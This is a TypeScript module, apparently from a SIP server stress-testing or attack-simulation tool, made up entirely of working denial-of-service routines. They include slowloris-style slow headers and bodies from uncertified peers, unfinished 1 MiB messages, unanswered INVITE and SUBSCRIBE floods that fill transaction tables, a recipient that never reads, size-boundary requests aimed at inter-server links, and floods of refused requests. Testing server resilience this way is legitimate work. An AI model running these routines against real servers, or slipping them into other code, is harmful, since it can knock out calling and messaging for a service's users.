import { setTimeout as pause } from 'node:timers/promises';
import { AttackConnection, attackerAddress } from './attack-connection.ts';
import type { RunningAttack, Target } from './order.ts';
import { asFastAsPossible, repeat } from './repeat.ts';

/** Connections of nobody that the attack keeps open. */
const unknownConnections = 300;
const megabyte = 1_048_576;

/** Peers without a certificate send the head of a message, a byte a second, and never its end. */
export function slowHeads(target: Target): Promise<RunningAttack> {
  return fromUnknownPeers(target, 'slow heads', (connection, age) => {
    const text = connection.request('OPTIONS', `sip:nobody@${target.domain}`, `sip:${target.domain}`, 0);
    connection.send(text.charAt(age % (text.length - 4)));
  });
}

/** Peers without a certificate announce a body and send it a byte a second. */
export function slowBodies(target: Target): Promise<RunningAttack> {
  return fromUnknownPeers(target, 'slow bodies', (connection, age) => {
    if (age === 0)
      connection.send(
        connection.request('MESSAGE', `sip:nobody@${target.domain}`, `sip:${target.domain}`, 16_000),
      );
    connection.send('x');
  });
}

/** Users send all but the last byte of a message of 1 MiB, on as many connections as they get. */
export async function unfinishedMessages(target: Target): Promise<RunningAttack> {
  const { accounts, domain } = target;
  const body = 'x'.repeat(megabyte - 1);
  let begun = 0;
  const connections = await registered(target, 300);
  for (const [i, connection] of connections.entries()) {
    const account = accounts[i % accounts.length];
    if (account === undefined) continue;
    const from = `sip:${account.username}@${domain}`;
    connection.send(
      connection.request('MESSAGE', from, from, megabyte, 'Content-Type: text/plain\r\n') + body,
    );
    begun += 1;
  }
  return {
    stop() {
      close(connections);
      return `${begun} messages of 1 MiB without their last byte`;
    },
  };
}

/** Users send INVITE with a body of 1 MB to a user of theirs who never answers. */
export function unansweredCalls(target: Target): Promise<RunningAttack> {
  const body = 'x'.repeat(1_000_000);
  return toSilentUser(target, 20, 8, 'INVITE of 1 MB', (connection, from, to) => {
    connection.send(
      connection.request(
        'INVITE',
        from,
        to,
        body.length,
        'Contact: <sip:a@127.9.0.1>\r\nContent-Type: text/plain\r\n',
      ) + body,
    );
  });
}

/** Users send small requests to a user of theirs who never answers, to fill the table of transactions. */
export function manyTransactions(target: Target): Promise<RunningAttack> {
  return toSilentUser(target, 40, 20, 'unanswered requests', (connection, from, to) => {
    connection.send(
      connection.request('SUBSCRIBE', from, to, 0, 'Event: presence\r\nContact: <sip:a@127.9.0.1>\r\n'),
    );
  });
}

/** A user never reads; others send it messages of 60 kB. */
export async function neverReads(target: Target): Promise<RunningAttack> {
  const body = 'x'.repeat(60_000);
  return toSilentUser(
    target,
    10,
    4,
    'messages of 60 kB to a peer that does not read',
    (connection, from, to) => {
      connection.send(
        connection.request('MESSAGE', from, to, body.length, 'Content-Type: text/plain\r\n') + body,
      );
    },
  );
}

/** A user sends to a user of another server what one hop may let pass and the next refuse. */
export async function linkBreakers(target: Target): Promise<RunningAttack> {
  const { accounts, behindLink, domain } = target;
  const [account] = accounts;
  if (account === undefined) throw new Error('this attack needs an account');
  const from = `sip:${account.username}@${domain}`;
  const lines = (count: number): string => 'X-Line: 1\r\n'.repeat(count);
  const shapes: ((connection: AttackConnection) => string)[] = [];
  for (const count of [180, 190, 200, 240, 244, 245, 246, 247, 248, 249, 250, 256])
    shapes.push((c) => c.request('MESSAGE', from, behindLink, 0, lines(count)));
  for (const size of [
    7_000, 8_000, 8_100, 8_150, 8_192, 9_000, 15_000, 16_000, 30_000, 60_000, 64_000, 65_000,
  ])
    shapes.push((c) => c.request('MESSAGE', from, behindLink, 0, `X-Long: ${'y'.repeat(size)}\r\n`));
  for (const size of [2_000, 4_000, 8_000, 9_000])
    shapes.push((c) => c.request('MESSAGE', from, `${behindLink};x=${'z'.repeat(size)}`, 0));
  for (const size of [100_000, 1_000_000, 1_048_576])
    shapes.push(
      (c) => c.request('MESSAGE', from, behindLink, size, 'Content-Type: text/plain\r\n') + 'b'.repeat(size),
    );
  let sent = 0;
  let shape = 0;
  const running = asFastAsPossible(1, async () => {
    const connection = await AttackConnection.open(target, attackerAddress(1));
    if (connection === undefined) return pause(50);
    await connection.register(domain, account).catch(() => undefined);
    for (let i = 0; i < 3 && connection.isOpen; i += 1) {
      connection.send(shapes[shape % shapes.length]?.(connection) ?? '');
      shape += 1;
      sent += 1;
      await pause(10);
    }
    connection.socket.destroy();
  });
  return {
    stop() {
      running.stop();
      return `${sent} requests of ${shapes.length} shapes at the limits`;
    },
  };
}

/** Peers without a certificate send requests that are refused, as fast as this core makes them. */
export async function refusedRequests(target: Target): Promise<RunningAttack> {
  const { domain } = target;
  const connections = await unknownPeers(target, 20);
  let sent = 0;
  const running = asFastAsPossible(1, async () => {
    for (const connection of connections) {
      let batch = '';
      for (let i = 0; i < 20; i += 1)
        batch += connection.request('MESSAGE', `sip:eve\x1b@${domain}`, `sip:nobody@${domain}`, 0);
      if (connection.socket.writableLength > 1_000_000) continue;
      connection.send(batch);
      sent += 20;
    }
    await pause(1);
  });
  return {
    stop() {
      running.stop();
      close(connections);
      return `${sent} requests that are refused`;
    },
  };
}

async function fromUnknownPeers(
  target: Target,
  what: string,
  each: (connection: AttackConnection, age: number) => void,
): Promise<RunningAttack> {
  const ages = new Map<AttackConnection, number>();
  let made = 0;
  const open = async (): Promise<void> => {
    const connection = await AttackConnection.open(target, attackerAddress(made++ % 200));
    if (connection === undefined) return;
    ages.set(connection, 0);
    connection.socket.on('close', () => ages.delete(connection));
  };
  const running = repeat(1_000, () => {
    for (let i = ages.size; i < unknownConnections; i += 1) void open();
    for (const [connection, age] of ages) {
      each(connection, age);
      ages.set(connection, age + 1);
    }
  });
  return {
    stop() {
      running.stop();
      close([...ages.keys()]);
      return `${what} on ${made} connections, ${unknownConnections} at a time`;
    },
  };
}

/** Keeps requests of attackers to an attacker who never answers under way, on several connections. */
async function toSilentUser(
  target: Target,
  connections: number,
  batch: number,
  what: string,
  sendOne: (connection: AttackConnection, from: string, to: string) => void,
): Promise<RunningAttack> {
  const { accounts, domain } = target;
  const [silent, ...senders] = accounts;
  if (silent === undefined || senders.length === 0) throw new Error('this attack needs two accounts');
  const quiet = await AttackConnection.open(target, attackerAddress(1));
  if (quiet === undefined) throw new Error('the silent user was not admitted');
  await quiet.register(domain, silent, 'bound');
  quiet.stopReading();
  const open = await registered({ ...target, accounts: senders }, connections);
  let sent = 0;
  const running = repeat(20, () => {
    for (const [i, connection] of open.entries()) {
      const account = senders[i % senders.length];
      if (account === undefined) continue;
      for (let n = 0; n < batch && connection.socket.writableLength < 4 * megabyte; n += 1) {
        sendOne(connection, `sip:${account.username}@${domain}`, `sip:${silent.username}@${domain}`);
        sent += 1;
      }
    }
  });
  return {
    stop() {
      running.stop();
      close([...open, quiet]);
      return `${sent} ${what} on ${connections} connections`;
    },
  };
}

/** Connections on which the attackers' accounts are registered, in turn; as many as the server admits. */
async function registered(target: Target, count: number): Promise<AttackConnection[]> {
  const { accounts, domain } = target;
  const connections: AttackConnection[] = [];
  for (let i = 0; i < count; i += 1) {
    const account = accounts[i % accounts.length];
    const connection = await AttackConnection.open(target, attackerAddress(2 + (i % 200)));
    if (account === undefined || connection === undefined) continue;
    const isRegistered = await connection.register(domain, account).then(
      () => true,
      () => false,
    );
    if (isRegistered) connections.push(connection);
  }
  return connections;
}

async function unknownPeers(target: Target, count: number): Promise<AttackConnection[]> {
  const opened = Array.from({ length: count }, (_, i) => AttackConnection.open(target, attackerAddress(i)));
  return (await Promise.all(opened)).filter((connection) => connection !== undefined);
}

function close(connections: Iterable<AttackConnection>): void {
  for (const connection of connections) connection.socket.destroy();
}
